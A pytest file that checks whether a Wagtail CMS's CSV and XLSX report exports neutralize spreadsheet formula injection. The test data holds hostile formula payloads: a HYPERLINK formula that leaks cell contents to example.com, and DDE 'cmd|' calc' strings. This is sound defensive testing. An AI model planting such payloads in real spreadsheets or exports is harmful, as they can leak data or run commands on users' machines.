"""CSV and XLSX exports never carry a formula (OWASP's CSV injection rule):
the KIM group list, the translation status and the tips due for review."""

import csv
import datetime
import io
import re
from types import SimpleNamespace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from kim_cms.wagtail_admin.views.groups import KimGroupReportView
from kim_cms.wagtail_admin.views.spreadsheets import (
    FORMULA_TRIGGERS,
    neutralize_formula,
)
from tests.factories_groups import KimGroupIndexPageFactory, KimGroupPageFactory
from tests.factories_tips import make_tip, make_tip_index

HYPERLINK = '=HYPERLINK("http://example.com/?"&A3,"Klik")'
HOSTILE = [HYPERLINK, "+62 812 3456", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
REPORTS = {
    "group_list": "/admin/kim_cms_groups/",
    "translation_status": "/admin/reports/kim-translation-status/",
    "overdue_tips": "/admin/reports/kim-tips-due-for-review/",
}


def csv_rows(response):
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.getvalue())).active
    return [cell for row in sheet.iter_rows() for cell in row]


def test_text_that_looks_like_a_formula_gets_a_quote():
    assert neutralize_formula(HYPERLINK) == "'" + HYPERLINK
    for text in ("\t=1+1", "\r=1+1", "+1", "-1", "@A1"):
        assert neutralize_formula(text) == "'" + text
    for value in ("KIM Garantung", "", " =1", "'=1", 42, -3, None):
        assert neutralize_formula(value) == value


# The writer of a real report, fed generated text --------------------------------


class Row(SimpleNamespace):
    """An exported row: every column of the group list holds ``text``."""

    def __init__(self, text):
        super().__init__(**dict.fromkeys(KimGroupReportView.list_export, text))
        self.locale = SimpleNamespace(language_code=text)


@settings(max_examples=150, deadline=None)
@given(st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=40))
def test_no_exported_cell_reads_as_a_formula(text):
    """Whatever an editor typed, every cell of the CSV reads back as the text
    typed, with a quote in front exactly when it could start a formula; every
    XLSX cell is text showing exactly what was typed."""
    view = KimGroupReportView()
    body = b"".join(view.stream_csv([Row(text)])).decode()
    rows = list(csv.reader(io.StringIO(body, newline="")))
    expected = "'" + text if text.startswith(FORMULA_TRIGGERS) else text
    assert rows[1] == [expected] * len(view.list_export)
    assert not any(cell.startswith(FORMULA_TRIGGERS) for cell in rows[1])

    output = io.BytesIO()
    view.write_xlsx([Row(text)], output)
    sheet = load_workbook(io.BytesIO(output.getvalue())).active
    cells = list(sheet.iter_rows(min_row=2))[0]
    # XLSX holds no control characters and keeps line breaks as "\n"
    kept = ILLEGAL_CHARACTERS_RE.sub("", re.sub("\r\n?", "\n", text))
    for cell in cells:
        assert (cell.value or "") == kept
        assert cell.data_type == "s" or cell.value is None
        assert cell.quotePrefix == kept.startswith(FORMULA_TRIGGERS)


# Every kim_cms export, over HTTP -------------------------------------------------


@pytest.fixture
def hostile_pages(portal):
    """Pages of every exported kind whose titles start like formulas."""
    directory = KimGroupIndexPageFactory(parent=portal, title=HYPERLINK)
    for number, title in enumerate(HOSTILE):
        KimGroupPageFactory(
            parent=directory, title=title, slug=f"kim-{number}", phone="+62 812 3456"
        )
    index = make_tip_index(portal)
    for number, title in enumerate(HOSTILE):
        make_tip(
            index,
            title,
            slug=f"tip-{number}",
            expert_name="=cmd|' /C calc'!A0",
            reviewed_on=datetime.date(2020, 1, 1),
            review_due=datetime.date(2020, 6, 1),
        )


@pytest.mark.django_db
@pytest.mark.parametrize("report", REPORTS)
def test_csv_export_neutralizes_formulas(report, hostile_pages, admin_client):
    response = admin_client.get(REPORTS[report], {"export": "csv"})
    assert response.status_code == 200
    rows = csv_rows(response)
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + HYPERLINK in cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]


@pytest.mark.django_db
@pytest.mark.parametrize("report", REPORTS)
def test_xlsx_export_keeps_formulas_as_text(report, hostile_pages, admin_client):
    response = admin_client.get(REPORTS[report], {"export": "xlsx"})
    assert response.status_code == 200
    cells = xlsx_cells(response)
    looks_like_formula = [
        cell
        for cell in cells
        if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS)
    ]
    assert HYPERLINK in {cell.value for cell in looks_like_formula}
    for cell in looks_like_formula:
        assert cell.data_type == "s", cell.value
        assert cell.quotePrefix, cell.value
